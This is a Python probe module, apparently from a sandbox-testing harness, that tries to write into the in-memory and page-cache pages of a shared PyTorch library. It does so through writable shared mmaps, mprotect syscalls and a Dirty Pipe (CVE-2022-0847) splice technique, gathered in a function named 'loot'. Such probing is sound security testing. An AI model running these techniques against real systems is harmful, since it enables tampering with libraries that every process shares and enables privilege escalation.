"""Writes into the pages of shared libraries, as they lie in memory and in the page cache.

Elsewhere: the library is one file for all processes.
"""

# %% solution="value"
import ctypes
import mmap
import os

import known
from toolbox import each, number, reached, run, syscall, tell, won

LIBRARY = known.SITE + "/torch/lib/libtorch_cpu.so"


def shared_writable():
    mapped = mmap.mmap(os.open(LIBRARY, os.O_RDONLY), 4096, flags=mmap.MAP_SHARED, prot=3)
    return won(mapped)


def protected_later():
    file = os.open(LIBRARY, os.O_RDONLY)
    at = syscall(number(9, 222), 0, 4096, 1, 1, file, 0)
    syscall(number(10, 226), at, 4096, 3)
    return won("a shared page can be written")


def by_splice():
    # CVE-2022-0847: a pipe's page that could be merged with a page of the cache.
    read, write = os.pipe()
    before = os.pread(os.open(LIBRARY, os.O_RDONLY), 2, 0)
    os.write(write, b"x" * 65536)
    os.read(read, 65536)
    os.splice(os.open(LIBRARY, os.O_RDONLY), write, 1, offset_src=0)
    os.write(write, before[1:])  # the byte that is there already
    return "spliced, as anyone may"


def private():
    mapped = mmap.mmap(os.open(LIBRARY, os.O_RDONLY), 4096, flags=mmap.MAP_PRIVATE, prot=3)
    mapped[0] = 0
    same = os.pread(os.open(LIBRARY, os.O_RDONLY), 1, 0) == b"\x7f"
    return "a copy of its own" if same else won("the file has changed")


def loot():
    reached()
    ctypes.pythonapi.Py_IsInitialized()
    return each(run, [shared_writable, protected_later, by_splice, private])


def attribute(prompt, x):
    return tell(loot)
